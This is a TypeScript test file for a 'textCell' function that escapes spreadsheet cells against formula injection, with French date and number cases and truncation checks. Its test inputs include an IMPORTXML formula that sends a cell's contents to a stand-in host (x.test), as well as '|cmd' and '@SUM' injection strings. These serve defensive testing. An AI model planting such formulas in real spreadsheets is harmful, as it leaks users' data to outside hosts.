import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { CELL_CHARACTERS, isReadAsValue, textCell } from '../../../../shared/workbook/text-cell.ts';

describe('textCell', () => {
  test.each([
    '=IMPORTXML("https://x.test/?"&A1)',
    ' =1+1',
    '\t=1+1',
    '\u200b=1+1',
    '\ufeff+33 1 23',
    '+5',
    '-12',
    '@SUM(A1)',
    '|cmd',
    '%x',
    '001',
    '12/03/2024',
    '2024-03-12',
    '12 mars 2024',
    'mars 2024',
    '1er janvier 2024',
    '7e30',
    '1,5',
    '€ 12',
    '.5',
    '10:30',
    'VRAI',
    'faux',
    'TRUE',
    "'cité",
  ])('%j gets an apostrophe', (text) => {
    expect(textCell(text).startsWith("'")).toBe(true);
    expect(textCell(text).slice(1).replace(/[\t]/g, '')).toBe(text.replace(/[\t]/g, ''));
  });

  test.each(['', 'Europresse', 'Le Monde du 12 mars', 'Mars attaque', 'article', 'https://exemple.fr/=1'])(
    '%j is left alone',
    (text) => {
      expect(textCell(text)).toBe(text);
    },
  );

  test('a formula hidden behind a control character that is struck out is still caught', () => {
    expect(textCell('\u0000=1+1')).toBe("'=1+1");
    expect(textCell('\u0007\u0001=1+1')).toBe("'=1+1");
    expect(textCell('\u007f=1+1')).toBe("'=1+1");
  });

  test('is cut with « …[suite] » within the limit, apostrophe included, never inside a surrogate pair', () => {
    const cut = textCell(`=${'é'.repeat(60_000)}`);
    expect(cut.length).toBeLessThanOrEqual(CELL_CHARACTERS);
    expect(cut.startsWith("'=é")).toBe(true);
    expect(cut.endsWith('é …[suite]')).toBe(true);
    expect(textCell(`a${'😀'.repeat(30_000)}`)).not.toMatch(/[\ud800-\udbff] …/);
    expect(textCell('é'.repeat(CELL_CHARACTERS - 1))).not.toContain('suite');
  });

  test('whatever comes in, what goes out is no formula', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary' }), fc.constantFrom('=', '+', '-', '@', '|', '%'), (text, sign) => {
        for (const hostile of [sign + text, `\u200b${sign}${text}`, ` ${sign}${text}`, `\r\n${sign}${text}`]) {
          expect(textCell(hostile).startsWith("'")).toBe(true);
        }
        expect(/^[\s\u200b\ufeff]*[=+@]/.test(textCell(text))).toBe(false);
      }),
    );
  });

  test('isReadAsValue knows months without taking words for them', () => {
    expect(isReadAsValue('Août 2026')).toBe(true);
    expect(isReadAsValue('Marseille')).toBe(true); // too wide, on purpose: the apostrophe costs nothing
    expect(isReadAsValue('Un été en mars 2026')).toBe(false);
  });
});
